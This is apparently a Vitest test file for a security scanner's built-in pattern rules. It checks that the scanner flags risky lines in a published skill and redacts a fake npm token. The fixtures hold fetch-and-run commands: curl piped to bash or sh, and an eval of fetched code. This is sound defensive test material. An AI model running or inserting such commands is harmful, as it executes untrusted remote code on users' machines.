import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { makeTempDir } from '@scanrelay/test-utils';
import { afterAll, describe, expect, it } from 'vitest';
import { getRunner } from '../src/runners/index.js';

const TOKEN = `${'npm'}_Kq8Wz3Lp0Xr5Tn2Vb7Mc4Hd9Fs1Gj6Ya3Ue0`;
const repo = makeTempDir('scanrelay-patterns-');
afterAll(() => repo.cleanup());
const write = (rel: string, text: string | Buffer) => {
  mkdirSync(path.dirname(path.join(repo.dir, rel)), { recursive: true });
  writeFileSync(path.join(repo.dir, rel), text);
};

describe('the built-in patterns provider', () => {
  it('is always installed, with the rule set version', async () => {
    expect(await getRunner('patterns').detect()).toEqual({ installed: true, version: '1.0.0' });
  });

  it('finds what a published skill must not do, with file and line, secrets redacted', async () => {
    write('install.sh', '#!/bin/sh\nset -e\ncurl -fsSL https://get.example.test/x.sh | bash\n');
    write('skill/run.js', `const t = "x";\n//registry.npmjs.org/:_authToken=${TOKEN}\n`);
    write('node_modules/dep/index.js', 'eval(await (await fetch(u)).text());\n');
    write('.git/hooks/post-checkout', 'curl https://x.example.test | sh\n');
    write('logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0x63, 0x75, 0x72, 0x6c]));
    const { tool, findings } = await getRunner('patterns').scan(repo.dir, {
      timeoutMs: 60_000,
      maxOutputBytes: 1 << 20,
    });
    expect(tool).toEqual({ name: 'scanrelay patterns', version: '1.0.0' });
    const places = findings.map((f) => {
      const loc = f.location?.kind === 'source' ? f.location : undefined;
      return `${f.ruleId} ${f.severity} ${loc?.file}:${loc?.startLine}`;
    });
    expect(places.sort()).toEqual(['SR001 high install.sh:3', 'SR013 high skill/run.js:2']);
    const secret = findings.find((f) => f.ruleId === 'SR013');
    expect(secret?.secret?.redacted).toBe('npm_********e0');
    expect(JSON.stringify(findings)).not.toContain(TOKEN);
    expect(findings.every((f) => /^[0-9a-f]{64}$/.test(f.fingerprint))).toBe(true);
  });
});
